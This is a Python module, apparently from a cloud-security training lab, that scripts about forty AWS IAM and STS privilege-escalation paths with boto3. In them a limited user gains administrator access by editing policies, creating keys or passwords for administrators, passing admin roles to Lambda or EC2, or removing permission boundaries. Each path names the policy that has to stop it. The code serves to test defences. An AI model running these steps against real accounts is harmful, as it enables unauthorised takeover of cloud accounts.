"""The known paths from "can manage some users" to administrator.

Paths with an ID are cataloged under it at https://pathfinding.cloud, which includes all paths through IAM and STS. AWS
documents how policies stop these paths:
https://docs.aws.amazon.com/IAM/latest/UserGuide/access_policies_boundaries.html (delegating with boundaries)
https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_passrole.html
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import boto3

from labs_helpers.course.days.day2.attacker.attacked_account import (
    ADMINISTRATOR,
    EVERYTHING,
    IMAGE,
    PASSWORD,
    AttackedAccount,
    Holder,
    code,
    create_function,
)


@dataclass(frozen=True, slots=True)
class Path:
    """A privilege escalation path: its name, its steps, and the permission that must be withheld.

    `steps` runs the path and returns the session that should now have administrator access, or None if completing the
    steps is enough. `decisive` is the action that opens the path, `stopped_by` is the policy that has to stop it, and
    `id` is its number in the catalog, empty for a path that isn't in the catalog.
    """

    name: str
    story: str
    decisive: str
    stopped_by: str
    steps: Callable[[AttackedAccount], Holder | boto3.Session | None]
    id: str = ""


PATHS: dict[str, Path] = {}


def path(
    name: str, story: str, decisive: str, stopped_by: str = "identity", *, id: str = ""
) -> Callable[[Callable[[AttackedAccount], Any]], Any]:
    """Register the decorated function as a path."""

    def register(steps: Callable[[AttackedAccount], Any]) -> Any:
        """Add the steps of a path."""
        PATHS[name] = Path(name, story, decisive, stopped_by, steps, id)
        return steps

    return register


@path(
    "CreatePolicyVersion",
    "Dana gives her own policy a new version that allows everything.",
    "iam:CreatePolicyVersion",
    id="iam-001",
)
def _create_policy_version(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.create_policy_version(
        PolicyArn=attacked.policy, PolicyDocument=json.dumps(EVERYTHING), SetAsDefault=True
    )
    return attacked.dana


@path(
    "SetDefaultPolicyVersion",
    "Dana brings back an old version of her own policy, which allowed everything.",
    "iam:SetDefaultPolicyVersion",
)
def _set_default_policy_version(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.set_default_policy_version(PolicyArn=attacked.policy, VersionId="v1")
    return attacked.dana


@path(
    "AttachUserPolicy", "Dana attaches AdministratorAccess to herself.", "iam:AttachUserPolicy", id="iam-008"
)
def _attach_user_policy(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.attach_user_policy(UserName="dana", PolicyArn=ADMINISTRATOR)
    return attacked.dana


@path("PutUserPolicy", "Dana puts an inline policy on herself.", "iam:PutUserPolicy", id="iam-007")
def _put_user_policy(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.put_user_policy(UserName="dana", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING))
    return attacked.dana


@path(
    "AttachGroupPolicy",
    "Dana attaches AdministratorAccess to her own group.",
    "iam:AttachGroupPolicy",
    id="iam-010",
)
def _attach_group_policy(attacked: AttackedAccount) -> Holder:
    attacked.leads()
    attacked.as_dana.attach_group_policy(GroupName="leads", PolicyArn=ADMINISTRATOR)
    return attacked.dana


@path("PutGroupPolicy", "Dana puts an inline policy on her own group.", "iam:PutGroupPolicy", id="iam-011")
def _put_group_policy(attacked: AttackedAccount) -> Holder:
    attacked.leads()
    attacked.as_dana.put_group_policy(
        GroupName="leads", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING)
    )
    return attacked.dana


@path("AddUserToGroup", "Dana joins the group of administrators.", "iam:AddUserToGroup", id="iam-013")
def _add_user_to_group(attacked: AttackedAccount) -> Holder:
    attacked.administrators()
    attacked.as_dana.add_user_to_group(GroupName="administrators", UserName="dana")
    return attacked.dana


@path(
    "CreateAccessKey", "Dana creates an access key for an administrator.", "iam:CreateAccessKey", id="iam-002"
)
def _create_access_key(attacked: AttackedAccount) -> Holder:
    attacked.administrators("pia")
    return attacked.key_of("pia")


@path("CreateLoginProfile", "Dana gives an administrator a password.", "iam:CreateLoginProfile", id="iam-004")
def _create_login_profile(attacked: AttackedAccount) -> None:
    attacked.administrators("pia")
    attacked.as_dana.create_login_profile(UserName="pia", Password=PASSWORD)


@path(
    "UpdateLoginProfile", "Dana changes an administrator's password.", "iam:UpdateLoginProfile", id="iam-006"
)
def _update_login_profile(attacked: AttackedAccount) -> None:
    attacked.with_password("alan")
    attacked.as_dana.update_login_profile(UserName="alan", Password=PASSWORD)


@path(
    "UpdateAssumeRolePolicy",
    "Dana adds herself to the trust policy of the role admin, and assumes the role.",
    "iam:UpdateAssumeRolePolicy",
    id="iam-012",
)
def _update_assume_role_policy(attacked: AttackedAccount) -> Holder:
    attacked.admin_role()
    attacked.as_dana.update_assume_role_policy(RoleName="admin", PolicyDocument=attacked.trusting_dana())
    return attacked.assumed("role/admin")


@path(
    "AttachRolePolicy",
    "Dana attaches AdministratorAccess to a role that she can assume.",
    "iam:AttachRolePolicy",
    id="iam-014",
)
def _attach_role_policy(attacked: AttackedAccount) -> Holder:
    attacked.viewer()
    attacked.as_dana.attach_role_policy(RoleName="viewer", PolicyArn=ADMINISTRATOR)
    return attacked.assumed("role/viewer")


@path(
    "PutRolePolicy",
    "Dana puts an inline policy on a role that she can assume.",
    "iam:PutRolePolicy",
    id="iam-017",
)
def _put_role_policy(attacked: AttackedAccount) -> Holder:
    attacked.viewer()
    attacked.as_dana.put_role_policy(
        RoleName="viewer", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING)
    )
    return attacked.assumed("role/viewer")


@path("PassRole to Lambda", "Dana creates a function that runs as the role admin.", "iam:PassRole")
def _pass_role_to_lambda(attacked: AttackedAccount) -> None:
    create_function(attacked.dana.client("lambda"), "team-nightly", attacked.admin_role())


@path(
    "PassRole to EC2",
    "Dana starts an instance with the role admin, and takes the role's credentials from the instance.",
    "iam:PassRole",
)
def _pass_role_to_ec2(attacked: AttackedAccount) -> boto3.Session:
    attacked.admin_role()
    made = attacked.dana.client("ec2").run_instances(
        ImageId=IMAGE, MinCount=1, MaxCount=1, IamInstanceProfile={"Name": "admin"}
    )
    return attacked.cloud.instance(made["Instances"][0]["InstanceId"]).session()


@path(
    "UpdateFunctionCode",
    "Dana puts her own code into a function that runs as the role admin.",
    "lambda:UpdateFunctionCode",
)
def _update_function_code(attacked: AttackedAccount) -> None:
    attacked.billing()
    attacked.dana.client("lambda").update_function_code(FunctionName="billing", ZipFile=code())


@path("CreateUser without the boundary", "Dana creates a user without the boundary.", "iam:CreateUser")
def _create_user_without_boundary(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.create_user(UserName="zoe", Path="/team/")
    attacked.as_dana.attach_user_policy(UserName="zoe", PolicyArn=ADMINISTRATOR)
    return attacked.key_of("zoe")


@path("CreateRole without the boundary", "Dana creates a role without the boundary.", "iam:CreateRole")
def _create_role_without_boundary(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.create_role(
        RoleName="zed", Path="/team/", AssumeRolePolicyDocument=attacked.trusting_dana()
    )
    attacked.as_dana.attach_role_policy(RoleName="zed", PolicyArn=ADMINISTRATOR)
    return attacked.assumed("role/team/zed")


@path(
    "CreateUser with another boundary",
    "Dana creates a user whose boundary is AdministratorAccess.",
    "iam:CreateUser",
)
def _create_user_with_another_boundary(attacked: AttackedAccount) -> Holder:
    attacked.as_dana.create_user(UserName="zoe", Path="/team/", PermissionsBoundary=ADMINISTRATOR)
    attacked.as_dana.attach_user_policy(UserName="zoe", PolicyArn=ADMINISTRATOR)
    return attacked.key_of("zoe")


@path(
    "AttachUserPolicy to a user without a boundary",
    "Dana attaches AdministratorAccess to Olga, a team member without a boundary.",
    "iam:AttachUserPolicy",
)
def _attach_user_policy_to_an_old_user(attacked: AttackedAccount) -> Holder:
    olga = attacked.olga()
    attacked.as_dana.attach_user_policy(UserName="olga", PolicyArn=ADMINISTRATOR)
    return olga


@path(
    "PutUserPolicy on a user without a boundary",
    "Dana puts an inline policy on Olga, a team member without a boundary.",
    "iam:PutUserPolicy",
)
def _put_user_policy_on_an_old_user(attacked: AttackedAccount) -> Holder:
    olga = attacked.olga()
    attacked.as_dana.put_user_policy(UserName="olga", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING))
    return olga


@path(
    "DeleteUserPermissionsBoundary",
    "Dana removes the boundary from Nick, who has AdministratorAccess within it.",
    "iam:DeleteUserPermissionsBoundary",
)
def _delete_user_permissions_boundary(attacked: AttackedAccount) -> Holder:
    nick = attacked.strong_nick()
    attacked.as_dana.delete_user_permissions_boundary(UserName="nick")
    return nick


@path(
    "PutUserPermissionsBoundary",
    "Dana gives Nick a wider boundary: AdministratorAccess.",
    "iam:PutUserPermissionsBoundary",
)
def _put_user_permissions_boundary(attacked: AttackedAccount) -> Holder:
    nick = attacked.strong_nick()
    attacked.as_dana.put_user_permissions_boundary(UserName="nick", PermissionsBoundary=ADMINISTRATOR)
    return nick


@path(
    "CreatePolicyVersion for the boundary",
    "Dana gives the boundary itself a new version that allows everything.",
    "iam:CreatePolicyVersion",
)
def _create_policy_version_of_the_boundary(attacked: AttackedAccount) -> Holder:
    nick = attacked.strong_nick()
    attacked.as_dana.create_policy_version(
        PolicyArn=attacked.boundary, PolicyDocument=json.dumps(EVERYTHING), SetAsDefault=True
    )
    return nick


@path(
    "SetDefaultPolicyVersion of the boundary",
    "Dana brings back an old version of the boundary, which allowed everything.",
    "iam:SetDefaultPolicyVersion",
)
def _set_default_policy_version_of_the_boundary(attacked: AttackedAccount) -> Holder:
    nick = attacked.strong_nick()
    attacked.as_dana.set_default_policy_version(PolicyArn=attacked.boundary, VersionId="v1")
    return nick


@path(
    "a boundary that is too wide",
    "Nick, with AdministratorAccess within the boundary, simply reads the jewels.",
    "s3:GetObject",
    "boundary",
)
def _use_wide_boundary(attacked: AttackedAccount) -> Holder:
    return attacked.strong_nick()


@path(
    "a boundary that allows IAM",
    "Nick, with AdministratorAccess within the boundary, creates a key for an administrator.",
    "iam:CreateAccessKey",
    "boundary",
)
def _use_boundary_with_iam(attacked: AttackedAccount) -> Holder:
    nick = attacked.strong_nick()
    attacked.administrators("pia")
    return Holder(attacked.cloud, nick.client("iam").create_access_key(UserName="pia")["AccessKey"])


# Further paths of the catalog, and some that it lacks


@path(
    "CreateAccessKey after DeleteAccessKey",
    "Anna, an administrator, already has two keys, the maximum. Dana deletes one and creates another.",
    "iam:CreateAccessKey",
    id="iam-003",
)
def _create_access_key_in_place_of_another(attacked: AttackedAccount) -> Holder:
    key = attacked.with_two_keys("anna")
    attacked.as_dana.delete_access_key(UserName="anna", AccessKeyId=key)
    return attacked.key_of("anna")


@path(
    "PutRolePolicy on her own role",
    "Dana works through the role desk, and puts an inline policy on it.",
    "iam:PutRolePolicy",
    id="iam-005",
)
def _put_role_policy_on_own_role(attacked: AttackedAccount) -> Holder:
    desk = attacked.desk()
    desk.client("iam").put_role_policy(
        RoleName="desk", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING)
    )
    return desk


@path(
    "AttachRolePolicy to her own role",
    "Dana works through the role desk, and attaches AdministratorAccess to it.",
    "iam:AttachRolePolicy",
    id="iam-009",
)
def _attach_role_policy_to_own_role(attacked: AttackedAccount) -> Holder:
    desk = attacked.desk()
    desk.client("iam").attach_role_policy(RoleName="desk", PolicyArn=ADMINISTRATOR)
    return desk


@path(
    "AttachUserPolicy and a key",
    "Dana attaches AdministratorAccess to Ben, who is on another team, and creates a key for Ben.",
    "iam:AttachUserPolicy",
    id="iam-015",
)
def _attach_user_policy_and_a_key(attacked: AttackedAccount) -> Holder:
    attacked.ben()
    attacked.as_dana.attach_user_policy(UserName="ben", PolicyArn=ADMINISTRATOR)
    return attacked.key_of("ben")


@path(
    "CreatePolicyVersion for a role's policy",
    "Dana adds a version, which allows everything, to the policy of a role that she can assume.",
    "iam:CreatePolicyVersion",
    id="iam-016",
)
def _create_version_of_role_policy(attacked: AttackedAccount) -> Holder:
    policy = attacked.viewer()
    attacked.as_dana.create_policy_version(
        PolicyArn=policy, PolicyDocument=json.dumps(EVERYTHING), SetAsDefault=True
    )
    return attacked.assumed("role/viewer")


@path(
    "PutUserPolicy and a key",
    "Dana puts an inline policy on Ben, who is on another team, and creates a key for Ben.",
    "iam:PutUserPolicy",
    id="iam-018",
)
def _put_user_policy_and_a_key(attacked: AttackedAccount) -> Holder:
    attacked.ben()
    attacked.as_dana.put_user_policy(UserName="ben", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING))
    return attacked.key_of("ben")


@path(
    "AttachRolePolicy and UpdateAssumeRolePolicy",
    "Dana attaches AdministratorAccess to the role batch, and adds herself to its trust policy.",
    "iam:AttachRolePolicy",
    id="iam-019",
)
def _attach_role_policy_and_update_assume_role_policy(attacked: AttackedAccount) -> Holder:
    attacked.batch()
    attacked.as_dana.attach_role_policy(RoleName="batch", PolicyArn=ADMINISTRATOR)
    return _trust_dana_and_assume(attacked, "batch")


@path(
    "CreatePolicyVersion and UpdateAssumeRolePolicy",
    "Dana gives the policy of the role batch a new version, and adds herself to the role's trust policy.",
    "iam:CreatePolicyVersion",
    id="iam-020",
)
def _create_policy_version_and_update_assume_role_policy(attacked: AttackedAccount) -> Holder:
    policy = attacked.batch()
    attacked.as_dana.create_policy_version(
        PolicyArn=policy, PolicyDocument=json.dumps(EVERYTHING), SetAsDefault=True
    )
    return _trust_dana_and_assume(attacked, "batch")


@path(
    "PutRolePolicy and UpdateAssumeRolePolicy",
    "Dana puts an inline policy on the role batch, and adds herself to its trust policy.",
    "iam:PutRolePolicy",
    id="iam-021",
)
def _put_role_policy_and_update_assume_role_policy(attacked: AttackedAccount) -> Holder:
    attacked.batch()
    attacked.as_dana.put_role_policy(
        RoleName="batch", PolicyName="all", PolicyDocument=json.dumps(EVERYTHING)
    )
    return _trust_dana_and_assume(attacked, "batch")


def _trust_dana_and_assume(attacked: AttackedAccount, role: str) -> Holder:
    attacked.as_dana.update_assume_role_policy(RoleName=role, PolicyDocument=attacked.trusting_dana())
    return attacked.assumed(f"role/{role}")


@path(
    "AssumeRole",
    "Dana assumes the role break-glass, which trusts everyone in the account whose own policy allows it.",
    "sts:AssumeRole",
    id="sts-001",
)
def _assume_role(attacked: AttackedAccount) -> Holder:
    attacked.break_glass()
    return attacked.assumed("role/break-glass")


@path(
    "UpdateUser with a new path",
    "Dana moves the administrator Art to the path /team/, where she can create keys.",
    "iam:UpdateUser",
)
def _update_user_with_a_new_path(attacked: AttackedAccount) -> Holder:
    attacked.administrators("art")
    attacked.as_dana.update_user(UserName="art", NewPath="/team/")
    return attacked.key_of("art")


@path(
    "DeleteRolePermissionsBoundary",
    "Dana removes the boundary from the role reader, which has AdministratorAccess within it, and assumes the role.",
    "iam:DeleteRolePermissionsBoundary",
)
def _delete_role_permissions_boundary(attacked: AttackedAccount) -> Holder:
    attacked.reader()
    attacked.as_dana.delete_role_permissions_boundary(RoleName="reader")
    return attacked.assumed("role/team/reader")


@path(
    "PutRolePermissionsBoundary",
    "Dana gives the role reader a wider boundary, AdministratorAccess, and assumes the role.",
    "iam:PutRolePermissionsBoundary",
)
def _put_role_permissions_boundary(attacked: AttackedAccount) -> Holder:
    attacked.reader()
    attacked.as_dana.put_role_permissions_boundary(RoleName="reader", PermissionsBoundary=ADMINISTRATOR)
    return attacked.assumed("role/team/reader")
